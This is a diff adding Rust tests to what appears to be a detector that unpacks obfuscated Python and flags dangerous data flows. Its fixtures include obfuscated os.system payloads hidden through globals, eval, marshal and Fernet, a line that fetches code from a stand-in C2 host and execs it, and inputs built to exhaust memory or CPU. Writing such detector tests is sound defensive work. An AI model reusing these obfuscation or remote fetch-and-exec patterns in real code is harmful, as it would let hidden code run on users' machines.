@@ -121,11 +121,52 @@ fn hidden_names_resolve() {
 }
 
 #[test]
+fn packers_that_hide_behind_globals_open() {
+    // A class keeps the payload in `globals()`, and `eval` of text yields the names.
+    runs(
+        "import os\nG = globals\nclass A:\n  def put(k=1, v=2, g=G):\n    g()[k] = v\n  def get(k=str):\n    return G()[k]\nA.put(k='x', v='import os; os.system(')\nA.put(k='y', v='\"id\")')\neval(\"__import__('builtins').exec\")(A.get(k='x') + A.get(k='y'))\n",
+        "id",
+    );
+    // `marshal` of a text.
+    runs("import marshal\nexec(marshal.loads(b'u\\x1b\\x00\\x00\\x00import os; os.system(\"id\") #'))\n", "id");
+}
+
+#[test]
+fn a_module_that_nobody_imported_is_known_by_its_name() {
+    let found = seen("from common import *\nexec(requests.get('https://c2.example/x').text)\n");
+    flows(&found, Action::NetFetch, Action::CodeEval);
+}
+
+#[test]
+fn what_is_written_to_a_script_is_read() {
+    let found = seen("f = open('/tmp/a.py', 'w')\nf.write('import os; os.system(\"id\")')\nf.close()\n");
+    assert!(find(&found, Action::ProcExec).iter().any(|one| one.object.text == "id"), "{}", describe(&found));
+}
+
+#[test]
+fn hostile_folds_stay_within_the_budget() {
+    on_big_stack(|| {
+        for text in [
+            "l = []\nl.append(l)\nl.append(l)\nprint(str(l), repr(l), sorted([l, l]), max(l, l))\nimport json\njson.dumps(l)\n",
+            "s = 'ab' * 100000\nwhile True:\n  s = s.replace('a', 'aaaaaaaaaaaaaaaa')\n",
+            "l = list(range(200000))\nit = iter(l)\nwhile l:\n  next(it)\n",
+            "x = int('9' * 8000)\nfor i in range(200000):\n  x.to_bytes(4000, 'big')\n",
+            "d = b'x' * 1000000\nimport hashlib\nfor i in range(100000):\n  hashlib.sha256(d).digest()\n",
+            "print('x' * 100000 % (), '{:>99999999999}'.format(1), '%99999999d' % 1, 'x'.zfill(10 ** 12), 2 ** 10000)\n",
+            "x = list(enumerate([1, 2], 9223372036854775807))\nrange(9223372036854775807, -9223372036854775807, -1)\n",
+        ] {
+            seen(text);
+        }
+    });
+}
+
+#[test]
 fn fernet_opens() {
     // Made with the key and the plain text below; the time stamp is 2026-01-01.
     let key = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";
     let token = TOKEN;
     let text = format!("from cryptography.fernet import Fernet\nexec(Fernet(b'{key}').decrypt(b'{token}'))\n");
+    runs(&text.replace("cryptography.fernet", "fernet"), "echo inert");
     let found = runs(&text, "echo inert");
     flows(&found, Action::DataDecrypt, Action::CodeEval);
     assert_eq!(found.layers[0].how, ["fernet", "eval"]);
